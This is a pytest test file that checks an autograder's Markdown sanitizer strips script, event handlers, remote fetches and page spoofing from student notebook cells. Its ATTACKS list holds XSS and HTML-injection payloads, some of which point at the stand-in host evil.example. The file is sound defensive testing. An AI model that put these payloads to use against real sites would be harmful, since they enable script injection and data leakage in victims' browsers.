"""What a student writes in Markdown cannot do anything in the instructor's browser."""

import re

import pytest

from autograder.nbgrader_plugins.harmless import markdown2html

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/who-reads-this.png)",
    "![x](attachment:evil.svg)",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<form action=//evil.example><input name=x><button>x</button></form>",
    "<base href='//evil.example'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>* { display: none }</style><link rel=stylesheet href=//evil.example>",
    "<div style='background: url(//evil.example)'>x</div>",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<details open ontoggle=alert(1)>x</details>",
    "<div id=grade class=btn-danger>x</div>",
]
CELL = {"cell": {"attachments": {"evil.svg": {"image/svg+xml": "<svg onload=alert(1)/>"}}}}


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_and_nothing_is_fetched(attack: str) -> None:
    html = markdown2html(CELL, attack)
    tags = "".join(re.findall(r"<[^>]*>", html)).lower()
    for name in ("script", "svg", "iframe", "form", "input", "base", "meta", "style", "link", "math", "noscript"):
        assert f"<{name}" not in tags
    assert not re.search(r"\son\w+\s*=|javascript|evil|\s(id|class|action)\s*=", tags)
    assert re.findall(r"src=\"(?!data:image/)", tags) == []


def test_mathematics_makes_no_links() -> None:
    html = markdown2html({}, r"$\href{javascript:alert(1)}{x} + \class{btn}{y} + \frac{1}{2} < \sum_i w_i$")
    assert html == "<p>$href{javascript:alert(1)}{x} + class{btn}{y} + \\frac{1}{2} &lt; \\sum_i w_i$</p>\n"


def test_what_honest_students_write_stays() -> None:
    source = (
        "# Why\n\nA *mean* over **rows**, `dW / n`:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[docs](https://numpy.org)\n"
    )
    html = markdown2html({}, source)
    for part in ("<h1>", "<em>mean</em>", "<strong>rows</strong>", "<code>dW / n</code>", "<td>1</td>"):
        assert part in html
    assert '<a href="https://numpy.org">docs</a>' in html
    picture = {"cell": {"attachments": {"a.png": {"image/png": "iVBORw0KGgo="}}}}
    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="plot">' in markdown2html(
        picture, "![plot](attachment:a.png)"
    )
